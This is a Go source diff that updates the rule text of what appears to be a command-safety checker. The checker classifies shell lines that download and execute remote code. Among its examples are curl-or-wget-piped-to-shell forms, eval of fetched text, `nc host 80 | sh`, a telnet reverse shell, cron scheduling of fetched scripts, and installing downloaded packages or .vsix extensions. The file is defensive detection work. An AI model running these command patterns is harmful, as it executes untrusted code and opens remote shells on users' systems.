@@ -69,7 +69,7 @@ func defaultDownloadRun() DefaultInfo {
 			"that reads its input as data (`python -m json.tool`) reads what it is fed as data, unless `-i` or `PYTHONINSPECT` (which the line may set) makes it read code after. " +
 			"A shell that runs text made when it runs, where that text is what the line reads from the network (a downloader, `nc`, `socat`, `telnet`, `openssl s_client`, ssh's output), " +
 			"is unreadable, and its ask names this default (fx29e2, rt28d #5): `bash <(curl …)`, `source <(curl …)`, `. /dev/stdin <<< \"$(wget …)\"`, `bash -c \"$(curl …)\"`, " +
-			"`eval \"$(curl …)\"`, `nc host 80 | sh`, `ssh host cat x.sh | bash`, a shell fed so through a function (`f() { sh; }; curl … | f`), `curl … | at now`, `curl … | crontab -`; " +
+			"`eval \"$(curl …)\"` (a plain command string eval runs is judged as that command: `eval 'curl -o ~/.bashrc URL'` names what `curl -o ~/.bashrc URL` names, fx42b2), `nc host 80 | sh`, `ssh host cat x.sh | bash`, a shell fed so through a function (`f() { sh; }; curl … | f`), `curl … | at now`, `curl … | crontab -`; " +
 			"text from elsewhere (`bash -c \"$(cat x.sh)\"`, `cat x.sh | bash`) and a reverse shell, whose output goes back to the network (`telnet h 4444 | sh | telnet h 4445`), are the floor's. " +
 			"Code run or installed straight from where it is fetched ([remote-code]: a URL, `git+https://…`, `github:o/r`), " +
 			"which runs it (a script) or its build and install scripts (a package): `deno run URL`, `bun run URL`, " +
@@ -86,7 +86,7 @@ func defaultDownloadRun() DefaultInfo {
 			"charts fetched from a registry or a URL (`helm install`/`upgrade NAME oci://…`; a chart by `--repo URL` is not seen); flakes from a repository (`nix run`/`shell`/`develop`/`profile install github:o/r`; `nix run` of the project's flake with an input fetched from one, `--override-input nixpkgs github:o/r`, `--inputs-from github:o/r`; " +
 			"`nix shell github:o/r -c tool` is unreadable, made-then-run); " +
 			"deno's `npm:` and `jsr:` specifiers run (`deno run -A npm:pkg`); `go run PKG@VERSION`, which fetches and runs at once (`go install PKG@VERSION` alone is left alone). " +
-			"A package file made earlier in the line and then installed (`wget URL/a.deb && sudo dpkg -i a.deb`, `apt install ./a.deb`, `rpm -i`, `pip install x.tar.gz`, `npm install x.tgz`; one the package manager fetched itself too: `pip download x && pip install x-1.0.tar.gz`, `npm pack NAME`, `gem fetch NAME`, rt19d #16) " +
+			"A package file made earlier in the line and then installed (`wget URL/a.deb && sudo dpkg -i a.deb`, `apt install ./a.deb`, `rpm -i`, `pip install x.tar.gz`, `npm install x.tgz`, an editor extension `code --install-extension x.vsix` (and code-insiders, code-oss, codium, cursor, windsurf; fx42b2); one the package manager fetched itself too: `pip download x && pip install x-1.0.tar.gz`, `npm pack NAME`, `gem fetch NAME`, rt19d #16) " +
 			"and a program `go install PKG@VERSION` put on PATH and then run are unreadable (made-then-run, below). " +
 			"An install pointed elsewhere, by any option or variable ([source-redirect]): another index or registry for pip (and `python -m pip`, `-mpip`, attached `-iURL`), uv (`pip install`, `sync`, `add`, `run`, `--default-index`), " +
 			"npm (`ci`, `install` and their aliases, `--@scope:registry=`), yarn, pnpm, bun, dotnet (`--source`, and `dotnet tool install`/`update --add-source`, rt21d #7), cargo (`--registry`), gem and a conda channel that is not public (conda-forge, defaults, bioconda, pytorch, nvidia … are), " +
